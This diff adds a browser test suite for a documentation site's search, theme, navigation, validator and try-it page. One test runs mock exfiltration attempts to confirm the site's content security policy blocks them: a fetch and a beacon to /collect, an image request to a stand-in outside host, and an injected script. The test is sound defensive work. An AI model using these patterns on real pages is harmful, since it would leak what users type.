@@ -1,0 +1,150 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { base, openSite, phone, type Site } from '../browser.ts'
+
+let site: Site
+beforeAll(async () => {
+  site = await openSite()
+})
+afterAll(() => site.close())
+
+describe('the search', () => {
+  it('finds text of every part of the site, marks it, and is used with the keyboard', async () => {
+    const { page } = await site.open('introduction.html')
+    await page.keyboard.press('ControlOrMeta+k')
+    await page.locator('#localsearch-input').waitFor()
+    for (const words of ['PUT', 'Retry strategy', 'classifyRun', 'offset', 'benchmark', 'duplicate-key']) {
+      await page.locator('#localsearch-input').fill(words)
+      const [word = ''] = words.split(/\W/)
+      await page
+        .locator('.VPLocalSearchBox .result mark')
+        .filter({ hasText: new RegExp(word, 'i') })
+        .first()
+        .waitFor()
+    }
+    await page.locator('#localsearch-input').fill('frequencyOffset')
+    await page.locator('.VPLocalSearchBox .result.selected').waitFor()
+    await page.keyboard.press('Enter')
+    await page.waitForURL(/#/)
+    await page.close()
+  })
+
+  it('says that it found nothing', async () => {
+    const { page } = await site.open('introduction.html')
+    await page.keyboard.press('ControlOrMeta+k')
+    await page.locator('#localsearch-input').fill('qqqqzzzz')
+    expect(await page.locator('.VPLocalSearchBox .no-results').innerText()).toContain('qqqqzzzz')
+    await page.close()
+  })
+})
+
+describe('the theme', () => {
+  it('is dark before any script of the site has loaded, so that nothing flashes', async () => {
+    const { page } = await site.open('introduction.html')
+    await page.evaluate(() => {
+      localStorage.setItem('vitepress-theme-appearance', 'dark')
+    })
+    await page.route('**/*.js', (route) => route.abort())
+    await page.reload()
+    expect(await page.evaluate(() => document.documentElement.className)).toContain('dark')
+    await page.close()
+  })
+
+  it('is chosen with a switch that the next page remembers', async () => {
+    const { page } = await site.open('introduction.html')
+    await page.locator('.VPNavBarAppearance .VPSwitchAppearance').click()
+    await page.goto(`${site.origin}${base}concepts.html`)
+    expect(await page.evaluate(() => document.documentElement.className)).toContain('dark')
+    await page.close()
+  })
+})
+
+describe('a page', () => {
+  it('has the next one, a link to edit it, and an outline that follows the reader', async () => {
+    const { page } = await site.open('concepts.html')
+    expect(await page.locator('.pager-link.next').getAttribute('href')).toMatch(/replace-and-partial-update/)
+    expect(await page.locator('.edit-link-button').getAttribute('href')).toMatch(/edit\/main\/docs\/concepts\.md$/)
+    const last = page.locator('.vp-doc h2').last()
+    await last.scrollIntoViewIfNeeded()
+    await page.evaluate(() => {
+      scrollTo(0, document.body.scrollHeight)
+    })
+    const title = (await last.innerText()).replace(/\W+$/, '')
+    await page.locator('.VPDocAsideOutline .outline-link.active', { hasText: title }).waitFor()
+    await page.close()
+  })
+
+  it('opens a nested field that a link leads to', async () => {
+    const { page } = await site.open('reference/icmp-monitor.html#request-assertions-target')
+    await page.locator('#request-assertions-target').waitFor({ state: 'visible' })
+    await page.close()
+  })
+
+  it('shows only the fields of an update, or of a response', async () => {
+    const { page } = await site.open('reference/icmp-monitor.html')
+    await page.getByText('In an update', { exact: true }).click()
+    await page.locator('#created_at').waitFor({ state: 'hidden' })
+    await page.getByText('In a response', { exact: true }).click()
+    await page.locator('#created_at').waitFor({ state: 'visible' })
+    await page.close()
+  })
+
+  it('copies a code sample in the chosen language', async () => {
+    const { page } = await site.open('reference/update-icmp-monitor.html')
+    await page.locator('.vp-code-group label', { hasText: 'curl' }).click()
+    expect(await page.locator('.vp-code-group .active').innerText()).toContain('--data')
+    expect(await page.locator('.vp-code-group .active button.copy').getAttribute('title')).toMatch(/Copy/)
+    await page.close()
+  })
+
+  it('that is missing says so, and leads on', async () => {
+    const { page } = await site.open('reference/none.html')
+    await page.getByText('PAGE NOT FOUND').waitFor()
+    await page.getByRole('link', { name: 'Go to the first page' }).click()
+    await page.locator('.VPHome').waitFor()
+    await page.close()
+  })
+
+  it('is readable without JavaScript, and the try-it page says what it needs', async () => {
+    const context = await site.browser.newContext({ javaScriptEnabled: false })
+    const page = await context.newPage()
+    await page.goto(`${site.origin}${base}reference/icmp-monitor.html`)
+    expect(await page.locator('#frequency').innerText()).toContain('frequency')
+    await page.locator('details.inner summary').first().click()
+    await page.goto(`${site.origin}${base}try-it.html`)
+    expect((await page.locator('noscript').allTextContents()).join(' ')).toContain('This page needs JavaScript.')
+    await context.close()
+  })
+
+  it('cannot send what is typed, because its policy forbids requests', async () => {
+    const { page } = await site.open('try-it.html')
+    const blocked = await page.evaluate(async () => {
+      const directives: string[] = []
+      document.addEventListener('securitypolicyviolation', (event) => directives.push(event.effectiveDirective))
+      await fetch('/collect', { method: 'POST', body: 'text' }).catch(() => undefined)
+      navigator.sendBeacon('/collect', 'text')
+      new Image().src = 'https://elsewhere.example/?text'
+      document.body.append(Object.assign(document.createElement('script'), { textContent: 'stolen = 1' }))
+      await new Promise((done) => setTimeout(done, 300))
+      return directives
+    })
+    expect(new Set(blocked)).toEqual(new Set(['connect-src', 'img-src', 'script-src-elem']))
+    await page.close()
+  })
+})
+
+describe('the first page', () => {
+  it.each([{ width: 1280, scheme: 'light' } as const, phone])(
+    'shows issues live, and mends one with a click: %o',
+    async (view) => {
+      const { page } = await site.open('index.html', view)
+      expect(await page.locator('.verdict output').innerText()).toBe('Invalid: 4 errors, 1 warning')
+      await page.getByRole('button', { name: 'Use 50' }).click()
+      await page.getByText('Invalid: 3 errors, 1 warning').waitFor()
+      await page.locator('.cm-content').focus()
+      await page.keyboard.press('ControlOrMeta+a')
+      await page.keyboard.insertText('{ "heartbeat": {}, "script": "" }')
+      await page.getByText('Valid: no errors, no warnings').waitFor()
+      await page.close()
+    },
+  )
+})
